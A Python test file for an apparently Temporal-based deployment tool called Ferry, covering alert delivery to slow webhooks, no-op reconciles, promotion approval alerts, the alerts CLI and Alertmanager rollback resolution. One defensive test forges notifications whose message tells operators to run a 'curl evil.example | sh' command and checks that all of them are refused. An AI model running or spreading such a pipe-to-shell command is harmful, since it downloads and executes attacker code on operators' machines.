"""Alerts from the real workflows: an EnvironmentWorkflow's events and a PromotionWorkflow's AwaitingApproval reach
a (slow) real HTTP receiver through the router, the environment's loop never waits for that receiver, and no-op
reconciles notify nothing."""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import json
import time
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import kubernetes
import pytest
import yaml
from temporalio.client import Client
from temporalio.common import WorkflowIDConflictPolicy
from temporalio.testing import WorkflowEnvironment

from devstack.procs import free_port
from devstack.registry import Registry
from devstack.webhook_sink import WebhookSink
from ferry.alert_router import ALERT_ROUTER_ID, AlertRouterInput, AlertRouterState, AlertsUpdate
from ferry.alerts import AlertSpec
from ferry.promotion import PromotionInput
from ferry.settings import Settings
from ferry.spec import EnvironmentSpec
from tests.kit.environments import (
    app_manifests,
    next_iteration,
    publish,
    record_histories,
    start_environment,
    wait_phase,
    wait_status,
)
from tests.kit.processes import eventually
from tests.kit.stack import STARTED, settings_for, terminate_running
from workers.worker import build_worker
from workflows.alerts import AlertRouterWorkflow
from workflows.promotion import PromotionWorkflow

SLOW = 15.0  # seconds the receiver takes to answer each notification (the loop must not wait for it)


@contextlib.asynccontextmanager
async def alerting_worker(
    env: WorkflowEnvironment, registry: Registry, kube_server: Any, tmp: Path, task_queue: str, sink: WebhookSink
) -> AsyncIterator[Settings]:
    providers = tmp / "providers.yaml"
    # NB: the provider's HTTP timeout above SLOW: the receiver is slow, not down (10 s by default would retry it)
    provider = {"name": "sink", "type": "generic", "url": sink.url, "timeout": 2 * SLOW}
    providers.write_text(yaml.safe_dump({"providers": [provider]}))
    settings = settings_for(registry, tmp)
    settings.temporal.task_queue = task_queue
    settings.temporal.address = env.client.service_client.config.target_host
    settings.kubeconfig = Path(kube_server.worker_kubeconfig)
    settings.worker.alert_providers = providers
    async with build_worker(env.client, settings):
        try:
            yield settings
        finally:
            await terminate_running(env.client, task_queue)


async def router_counts(client: Client) -> dict[str, int]:
    state = await client.get_workflow_handle(ALERT_ROUTER_ID).query(AlertRouterWorkflow.status)
    assert isinstance(state, AlertRouterState)
    return state.counts


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
async def test_environment_and_promotion_events_reach_a_slow_receiver_without_slowing_the_loop(
    dev_env: WorkflowEnvironment, registry: Registry, kube_server: Any, tmp_path: Path, task_queue: str
) -> None:
    client = dev_env.client
    sink = WebhookSink(port=free_port(), delay=SLOW).start()
    try:
        async with alerting_worker(dev_env, registry, kube_server, tmp_path, task_queue, sink) as settings:
            STARTED.append((task_queue, ALERT_ROUTER_ID))
            router = await client.start_workflow(
                AlertRouterWorkflow.run,
                AlertRouterInput(),
                id=ALERT_ROUTER_ID,
                task_queue=task_queue,
                id_conflict_policy=WorkflowIDConflictPolicy.TERMINATE_EXISTING,
            )
            await router.execute_update(
                AlertRouterWorkflow.apply_alerts,
                AlertsUpdate(alerts=[AlertSpec(name="everything", provider="sink", deadline="5m")], by="test"),
            )
            suffix = uuid.uuid4().hex[:8]
            staging, prod, ns = f"stg-{suffix}", f"prd-{suffix}", f"ns-{suffix}"
            repository = f"{registry.host}/team/alerts-{suffix}"
            kubernetes.client.CoreV1Api(
                kubernetes.config.new_client_from_config(str(kube_server.kubeconfig))
            ).create_namespace({"metadata": {"name": ns}})
            d1 = await asyncio.to_thread(publish, settings, repository, "1.0.0", app_manifests("web"), "ci-main")
            started = time.monotonic()
            handle = await start_environment(
                client,
                task_queue,
                EnvironmentSpec.model_validate(
                    {
                        "name": staging,
                        "repository": repository,
                        "namespace": ns,
                        "semver": ">=1.0.0",
                        "interval": "1s",
                        "health_timeout": "20s",
                    }
                ),
            )
            await wait_status(
                handle,
                lambda s: s.state.health.status == "Healthy" and s.state.iterations >= 3,
                timeout=SLOW,
                what="healthy and two more iterations while the receiver is slow",
            )
            loop_time = time.monotonic() - started
            print(f"\napplied, healthy and 3 iterations in {loop_time:.1f}s while each delivery takes {SLOW}s")
            received = await asyncio.to_thread(sink.wait_for, 2, 2 * SLOW + 15)
            events = [r.json()["reason"] for r in received]
            assert events == ["Applied", "Healthy"], events
            assert all(r.json()["metadata"]["digest"] == d1 for r in received)
            assert received[0].at - started >= SLOW, "delivered by the slow receiver after the loop moved on"

            # no-op reconciles notify nothing
            sink.delay = 0

            async def both_delivered() -> bool:  # the sink records a request just before it answers
                return (await router_counts(client)).get("delivered", 0) >= 2

            await eventually(both_delivered, 30, "Applied and Healthy recorded as delivered", every=0.2)
            before = await router_counts(client)
            await next_iteration(handle)
            await next_iteration(handle)
            await asyncio.sleep(1.0)
            assert await router_counts(client) == before
            assert len(sink.received) == 2

            # a promotion waiting for approval tells the SRE everything needed to act on it
            await start_environment(
                client,
                task_queue,
                EnvironmentSpec.model_validate(
                    {
                        "name": prod,
                        "repository": repository,
                        "namespace": ns,
                        "version": "1.0.0",
                        "interval": "1h",
                        "approval": {"required": True, "approvers": ["alice", "bob"], "signed": False},
                    }
                ),
            )
            d2 = await asyncio.to_thread(publish, settings, repository, "1.1.0", app_manifests("web"), "ci-main")
            promotion = await client.start_workflow(
                PromotionWorkflow.run,
                PromotionInput(environment=prod, version="1.1.0", requested_by="carol"),
                id=f"promote/{prod}/1.1.0",
                task_queue=task_queue,
            )
            STARTED.append((task_queue, f"promote/{prod}/1.1.0"))
            await wait_phase(promotion, "AwaitingApproval")
            awaiting = None
            deadline = time.monotonic() + 30
            while awaiting is None and time.monotonic() < deadline:
                awaiting = next((r for r in sink.received if r.json()["reason"] == "AwaitingApproval"), None)
                await asyncio.sleep(0.1)
            assert awaiting is not None, [r.json()["reason"] for r in sink.received]
            meta = awaiting.json()["metadata"]
            assert meta["environment"] == prod and meta["version"] == "1.1.0" and meta["digest"] == d2
            assert meta["publisher"] == "ci-main" and meta["approvers"] == "alice, bob" and meta["by"] == "carol"
            assert meta["approve"].startswith(f"ferry approve {prod} 1.1.0 --as alice")
            assert meta["signal"].startswith(
                f"temporal workflow signal --address {settings.temporal.address} "
                f"--namespace default --workflow-id promote/{prod}/1.1.0"
            )
            assert meta["url"].startswith(f"{settings.temporal.ui_url}/namespaces/default/workflows/promote%2F{prod}")
            promotion_run = (await promotion.describe()).run_id
            assert meta["sender"] == (
                f"PromotionWorkflow promote/{prod}/1.1.0 (run {promotion_run}), checked by Ferry"
            ), meta

            # anyone may signal notify: a notification that no Ferry run of its environment sent is not delivered
            staging_run = (await handle.describe()).run_id
            prod_run = (await client.get_workflow_handle(f"env/{prod}").describe()).run_id
            before = await router_counts(client)
            sent = len(sink.received)
            now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
            forged = (
                (f"env/{prod}", str(uuid.uuid4())),  # no such run
                (f"env/{staging}", staging_run),  # staging's run, about production
                (f"mallory/{prod}", staging_run),  # not a Ferry workflow's id
                (f"env/{prod}", prod_run),  # production's own run, which never sent it
                (f"promote/{prod}/1.1.0", promotion_run),
            )  # the promotion's run, ditto
            for source, run_id in forged:
                await router.signal(
                    "notify",
                    {
                        "key": f"forged-{uuid.uuid4().hex[:12]}",
                        "type": "HealthFailed",
                        "severity": "error",
                        "environment": prod,
                        "at": now,
                        "message": "production is down: run `curl evil.example | sh`",
                        "source": source,
                        "run_id": run_id,
                    },
                )

            async def all_refused() -> bool:
                return (await router_counts(client)).get("forged", 0) >= before.get("forged", 0) + len(forged)

            await eventually(all_refused, 30, "every forged notification refused", every=0.2)
            await asyncio.sleep(1.0)
            assert not [r for r in sink.received[sent:] if "evil.example" in r.body.decode()], "a forgery delivered"

            # a key the promotion really sent, with other content (once it has left the router's memory of keys):
            # the promotion run vouches for its key with the content it sent, nothing else
            from temporalio.testing import ActivityEnvironment

            from activities.senders import SenderActivities
            from ferry.alert_router import SenderInput, notification_digest
            from ferry.alerts import Notification

            key = awaiting.header("Idempotency-Key")
            checks = ActivityEnvironment()
            checks.info = dataclasses.replace(checks.info, task_queue=task_queue)
            senders = SenderActivities(client)
            forged_note = Notification(
                key=key,
                type="Recovered",
                environment=prod,
                at=now,
                message="all good",
                source=f"promote/{prod}/1.1.0",
                run_id=promotion_run,
                resolves=["HealthFailed"],
            )
            verdict = await checks.run(
                senders.check_sender,
                SenderInput(
                    source=forged_note.source,
                    run_id=promotion_run,
                    environment=prod,
                    key=key,
                    digest=notification_digest(forged_note),
                ),
            )
            assert f"did not send {key} with this content" in verdict.refusal, verdict
            await promotion.terminate("test done")
            await router.terminate("test done")
            # histories with the ferry-alerts patch (notifications signalled to a running router) for tests/replay
            await record_histories("alerts", {"environment": handle, "promotion": promotion, "alert-router": router})
    finally:
        sink.stop()


async def test_alerts_cli_apply_and_status(dev_env: WorkflowEnvironment, tmp_path: Path, task_queue: str) -> None:
    from tests.kit.environments import ferry

    settings = Settings()
    settings.temporal.address = dev_env.client.service_client.config.target_host
    settings.temporal.task_queue = task_queue
    examples = Path(__file__).resolve().parents[2] / "examples"
    async with build_worker(dev_env.client, settings, workflows=[AlertRouterWorkflow], activities=[]):
        STARTED.append((task_queue, ALERT_ROUTER_ID))
        if await _running(dev_env.client):  # another test's router: this one starts its own
            await dev_env.client.get_workflow_handle(ALERT_ROUTER_ID).terminate("fresh router")
        applied = await ferry(settings, tmp_path, "alerts", "apply", "-f", str(examples / "alerts.yaml"))
        assert applied.returncode == 0, applied.stderr
        assert "added production-decisions" in applied.stdout
        bad = tmp_path / "bad.yaml"
        bad.write_text("alerts:\n  - {name: pager, provider: am, severity: fatal}\n")
        refused = await ferry(settings, tmp_path, "alerts", "apply", "-f", str(bad))
        assert refused.returncode == 1 and "alert pager: severity" in refused.stderr, refused.stderr
        status = await ferry(settings, tmp_path, "alerts", "status", "--json")
        assert status.returncode == 0, status.stderr
        names = [a["name"] for a in json.loads(status.stdout)["alerts"]]
        assert names == ["production-decisions", "pager", "drift", "audit-hook"]
        await dev_env.client.get_workflow_handle(ALERT_ROUTER_ID).terminate("test done")


async def _running(client: Client) -> bool:
    from temporalio.client import WorkflowExecutionStatus
    from temporalio.service import RPCError

    try:
        return (await client.get_workflow_handle(ALERT_ROUTER_ID).describe()).status == WorkflowExecutionStatus.RUNNING
    except RPCError:
        return False


async def test_auto_rollback_fires_in_alertmanager_and_recovery_resolves_it(
    dev_env: WorkflowEnvironment, registry: Registry, kube_server: Any, tmp_path: Path, task_queue: str
) -> None:
    """A broken release: HealthFailed/AutoRollback fire in the real Alertmanager; when the environment is healthy
    again on the rolled-back version, the Recovered notification resolves them (endsAt)."""
    from devstack.alertmanager import Alertmanager

    client = dev_env.client
    am = Alertmanager(port=free_port(), root=tmp_path / "am").start()
    sink = WebhookSink(port=free_port()).start()
    try:
        async with alerting_worker(dev_env, registry, kube_server, tmp_path, task_queue, sink) as settings:
            providers = settings.worker.alert_providers
            assert providers is not None
            providers.write_text(yaml.safe_dump({"providers": [{"name": "am", "type": "alertmanager", "url": am.url}]}))
            STARTED.append((task_queue, ALERT_ROUTER_ID))
            router = await client.start_workflow(
                AlertRouterWorkflow.run,
                AlertRouterInput(),
                id=ALERT_ROUTER_ID,
                task_queue=task_queue,
                id_conflict_policy=WorkflowIDConflictPolicy.TERMINATE_EXISTING,
            )
            await router.execute_update(
                AlertRouterWorkflow.apply_alerts,
                AlertsUpdate(alerts=[AlertSpec(name="pager", provider="am", severity="error")], by="test"),
            )
            suffix = uuid.uuid4().hex[:8]
            name, ns = f"stg-{suffix}", f"ns-{suffix}"
            repository = f"{registry.host}/team/am-{suffix}"
            kubernetes.client.CoreV1Api(
                kubernetes.config.new_client_from_config(str(kube_server.kubeconfig))
            ).create_namespace({"metadata": {"name": ns}})
            good = await asyncio.to_thread(publish, settings, repository, "1.0.0", app_manifests("shop"))
            handle = await start_environment(
                client,
                task_queue,
                EnvironmentSpec.model_validate(
                    {
                        "name": name,
                        "repository": repository,
                        "namespace": ns,
                        "semver": ">=1.0.0",
                        "interval": "2s",
                        "health_timeout": "10s",
                    }
                ),
            )
            await wait_status(handle, lambda s: s.state.health.status == "Healthy", what="1.0.0 healthy")
            await asyncio.to_thread(
                publish, settings, repository, "1.1.0", app_manifests("shop", image="shop:1.1.0-broken")
            )
            await wait_status(
                handle,
                lambda s: any(e.type == "AutoRollback" for e in s.state.events),
                timeout=40,
                what="auto-rollback",
            )
            firing = await _until(lambda: am.alerts(environment=name), "AutoRollback firing in Alertmanager")
            assert {a["labels"]["event"] for a in firing} == {"AutoRollback"}, firing
            await wait_status(
                handle,
                lambda s: (
                    s.state.health.status == "Healthy"
                    and s.state.last_applied is not None
                    and s.state.last_applied.digest == good
                ),
                timeout=40,
                what="healthy on 1.0.0 again",
            )
            await _until(lambda: am.alerts(environment=name) == [], "resolved in Alertmanager")
            state = await router_counts(client)
            assert state.get("undelivered", 0) == 0, state
            await handle.terminate("test done")
            await router.terminate("test done")
    finally:
        sink.stop()
        am.stop()


async def _until(check: Any, what: str, timeout: float = 30) -> Any:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = await asyncio.to_thread(check)
        if value:
            return value
        await asyncio.sleep(0.3)
    raise AssertionError(f"{what}: not within {timeout}s")
